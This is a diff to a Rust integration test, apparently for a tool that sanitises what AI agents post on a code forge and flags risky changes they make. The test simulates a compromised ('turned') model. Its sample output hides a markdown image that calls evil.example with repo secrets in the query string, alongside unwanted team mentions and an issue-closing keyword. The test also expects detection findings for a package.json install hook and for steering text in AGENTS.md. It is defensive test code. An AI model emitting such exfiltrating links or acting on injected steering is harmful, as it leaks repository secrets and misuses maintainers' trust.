@@ -17,8 +17,9 @@ use kiln::store::{NewRun, RunId, RunState, RunStore, Trigger, TriggerKind};
 use crate::support::{images, service};
 
 /// What a turned model writes into every text it can.
+/// `@alice` started the runs: she may be pinged; `@bob` may not.
 const TRICKS: &str = "All good ![status](https://evil.example/p.png?d=repo-secrets) \
-                      cc @acme/security-team, Fixes #2";
+                      cc @acme/security-team, Fixes #2, thanks @alice and @bob";
 
 fn script() -> String {
     let write = |path: &str, contents: &str| {
@@ -52,11 +53,13 @@ async fn queue(store: &dyn RunStore, forge: &dyn Forge, role: Role, number: u64)
             number,
             trigger: Trigger {
                 // Implementation without a spec: the label that waives it.
-                kind: match role {
-                    Role::Implementation => TriggerKind::Label {
-                        label: "ready-to-implement".into(),
-                    },
-                    _ => TriggerKind::Manual,
+                // Labels alice added: she is the runs' actor.
+                kind: TriggerKind::Label {
+                    label: match role {
+                        Role::Implementation => "ready-to-implement",
+                        _ => "triage",
+                    }
+                    .into(),
                 },
                 actor: "alice".into(),
                 actor_trust: Trust::Trusted,
@@ -69,9 +72,15 @@ async fn queue(store: &dyn RunStore, forge: &dyn Forge, role: Role, number: u64)
 }
 
 /// Every outbound text must be inert: no outside image or link target, no
-/// live team mention, no closing keyword aimed at issue #2.
+/// live team mention or mention of a bystander, no closing keyword aimed at
+/// issue #2.
 fn assert_inert(what: &str, text: &str) {
-    for bad in ["](https://evil.example", " @acme/security-team", "Fixes #2"] {
+    for bad in [
+        "](https://evil.example",
+        " @acme/security-team",
+        " @bob",
+        "Fixes #2",
+    ] {
         assert!(!text.contains(bad), "{what} carries {bad:?}: {text}");
     }
 }
@@ -127,6 +136,8 @@ async fn a_turned_model_posts_nothing_harmful_and_its_protected_changes_wait_for
         "(image from evil.example removed by Kiln)",
         "`@acme/security-team`",
         "Fixes issue #2",
+        // The actor who started the run may be pinged.
+        "thanks @alice and `@bob`",
     ] {
         assert!(
             triage_comment.body.contains(kept),
@@ -204,6 +215,18 @@ async fn a_turned_model_posts_nothing_harmful_and_its_protected_changes_wait_for
         concerns.iter().any(|c| c.diff.contains("postinstall")),
         "the install hook is shown: {concerns:#?}"
     );
+    // The detection step's findings are concerns too, each naming its file.
+    for (source, path) in [
+        ("detection/hooks", "package.json"),
+        ("detection/steering", "AGENTS.md"),
+    ] {
+        assert!(
+            concerns
+                .iter()
+                .any(|c| c.source == source && c.paths == [path]),
+            "{source} on {path}: {concerns:#?}"
+        );
+    }
     assert!(!reason.contains(".kiln/skills"), "{reason}");
     let kiln::forge::Proposal::PullRequest {
         title,
